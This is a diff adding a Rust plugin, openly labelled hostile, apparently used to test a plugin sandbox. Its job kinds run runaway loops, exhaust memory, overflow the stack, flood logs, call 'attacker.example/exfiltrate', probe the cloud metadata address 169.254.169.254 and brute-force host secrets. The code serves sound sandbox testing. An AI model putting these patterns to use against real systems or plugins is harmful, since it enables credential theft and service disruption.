@@ -1,0 +1,92 @@
+//! A deliberately hostile plugin for the sandbox tests. Each job kind misbehaves in one way;
+//! `ping` behaves, so tests can show the plugin (and the host) still work afterwards.
+
+use stride_plugin_sdk::prelude::*;
+
+struct Hostile;
+
+#[expect(unconditional_recursion, reason = "runaway recursion is the point: it must overflow the stack")]
+fn recurse(depth: u64, trail: &mut Vec<u64>) -> u64 {
+    trail.push(depth);
+    // Keep the frame alive so the optimizer cannot turn this into a loop.
+    recurse(depth + 1, trail) + trail[trail.len() / 2]
+}
+
+impl Plugin for Hostile {
+    fn manifest() -> Manifest {
+        let mut manifest = Manifest::new("test-hostile", env!("CARGO_PKG_VERSION"), "Hostile test plugin");
+        manifest.allowed_hosts = vec!["169.254.169.254".to_owned(), "10.0.0.1".to_owned()];
+        manifest.job_kinds = ["ping", "loop", "grow", "recurse", "panic", "outside", "private", "huge", "forge", "flood", "fetch"]
+            .map(str::to_owned)
+            .to_vec();
+        manifest.secrets = vec!["known".to_owned()];
+        manifest
+    }
+
+    fn run_job(job: JobRequest) -> Result<JobOutcome, PluginError> {
+        let payload: serde_json::Value = serde_json::from_str(&job.payload).unwrap_or_default();
+        match job.kind.as_str() {
+            "ping" => Ok(JobOutcome::done()),
+            "loop" => {
+                let mut x: u64 = 0;
+                loop {
+                    x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
+                    if x == 42 {
+                        return Ok(JobOutcome::done());
+                    }
+                }
+            }
+            "grow" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    if hoard.len() == usize::MAX {
+                        return Ok(JobOutcome::done());
+                    }
+                }
+            }
+            "recurse" => {
+                let mut trail = Vec::new();
+                let n = recurse(0, &mut trail);
+                Err(PluginError::Permanent(format!("unreachable {n}")))
+            }
+            "panic" => panic!("the hostile plugin panics on purpose"),
+            "outside" | "private" | "huge" | "fetch" => {
+                let url = match job.kind.as_str() {
+                    "outside" => "https://attacker.example/exfiltrate".to_owned(),
+                    "private" => "https://169.254.169.254/latest/meta-data/".to_owned(),
+                    _ => payload["url"].as_str().unwrap_or_default().to_owned(),
+                };
+                match Request::get(url).send() {
+                    Ok(response) => Ok(JobOutcome::done().progress(Progress {
+                        pages_done: 1,
+                        items_done: response.body().len() as u32,
+                        total_hint: None,
+                        note: Some(format!("status {}", response.status())),
+                    })),
+                    Err(error) => Err(PluginError::Permanent(format!("{error:?}"))),
+                }
+            }
+            "forge" => {
+                // Guess the secret, try one it never declared, then brute-force.
+                let undeclared = host::secret_equals("strava_client_secret", "guess");
+                let mut hits = 0;
+                for guess in 0..1_000 {
+                    if host::secret_equals("known", &format!("guess-{guess}")) {
+                        hits += 1;
+                    }
+                }
+                Err(PluginError::Permanent(format!("undeclared={undeclared} hits={hits}")))
+            }
+            "flood" => {
+                for i in 0..5_000 {
+                    log::error!("flood line {i}: {}", "x".repeat(10_000));
+                }
+                Ok(JobOutcome::done())
+            }
+            other => Err(PluginError::Permanent(format!("unknown job kind `{other}`"))),
+        }
+    }
+}
+
+stride_plugin_sdk::register_plugin!(Hostile);
